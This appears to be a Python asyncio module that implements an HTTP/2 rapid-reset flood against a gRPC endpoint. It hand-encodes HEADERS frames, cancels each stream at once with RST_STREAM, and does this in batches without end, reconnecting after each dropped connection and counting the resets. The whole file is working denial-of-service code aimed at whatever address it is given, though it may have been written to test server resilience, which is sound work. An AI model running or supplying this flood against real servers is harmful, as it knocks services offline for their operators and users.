"""HTTP/2 as a hostile client speaks it: requests that are reset as soon as they are made.

Frames are written by hand, since every proper client waits for room or an answer.
"""

from __future__ import annotations

import asyncio
import struct
from collections import Counter
from contextlib import suppress
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
END_HEADERS: Final = 0x4
ACK: Final = 0x1
CANCEL: Final = struct.pack(">I", 8)
STREAM_MAX: Final = 2**31 - 1
#: Requests in one write.
AT_ONCE: Final = 50


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers_of(path: str) -> bytes:
    """A gRPC request's headers, by HPACK without its dynamic table."""

    def text(value: str) -> bytes:
        return bytes([len(value)]) + value.encode()

    # :method POST, :scheme http, and then literals, by the static table's names where it has them.
    known = bytes([0x83, 0x86, 0x04]) + text(path) + bytes([0x01]) + text("localhost")
    content_type = bytes([0x0F, 0x10]) + text("application/grpc")
    return known + content_type + b"\x00" + text("te") + text("trailers")


async def flood(address: str, path: str, counted: Counter[str]) -> None:
    """Make and reset requests until it is ended, on one connection after another.

    Args:
        counted: How many requests were reset, and how many connections ended.
    """
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            await _on_one_connection(address, path, counted)
        counted["connections ended"] += 1


async def _on_one_connection(address: str, path: str, counted: Counter[str]) -> None:
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    reading = asyncio.create_task(_answer_settings(reader, writer))
    try:
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        block, stream = headers_of(path), 1
        while stream < STREAM_MAX and not reading.done():
            for _ in range(AT_ONCE):
                writer.write(frame(HEADERS, END_HEADERS, stream, block))
                writer.write(frame(RST_STREAM, 0, stream, CANCEL))
                stream += 2
            await writer.drain()
            counted["reset"] += AT_ONCE
            await asyncio.sleep(0)
    finally:
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)
        writer.transport.abort()


async def _answer_settings(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Take what the server says, until it says goodbye."""
    while True:
        head = await reader.readexactly(9)
        payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
        kind, flags = head[3], head[4]
        if kind == SETTINGS and not flags & ACK:
            writer.write(frame(SETTINGS, ACK, 0, payload[:0]))
        if kind == GOAWAY and int.from_bytes(payload[4:8], "big") != 0:
            return
